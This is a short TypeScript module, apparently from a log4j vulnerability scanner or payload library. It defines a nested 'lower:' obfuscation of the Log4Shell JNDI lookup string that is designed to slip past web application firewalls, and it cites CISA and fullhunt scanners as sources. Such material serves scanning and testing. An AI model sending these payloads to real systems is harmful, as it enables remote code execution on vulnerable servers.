import { afterScheme, disguise } from '../form.ts'

export const lowerNested = disguise(
  {
    id: 'lower-nested',
    summary: 'lower: within lower:',
    firesOn: ['C'],
    seenIn: ['CISA log4j-scan waf6', 'fullhunt log4j-scan waf6'],
  },
  (target) => `\${\${lower:\${lower:jndi}}:\${lower:${target.scheme}}:${afterScheme(target)}}`,
)
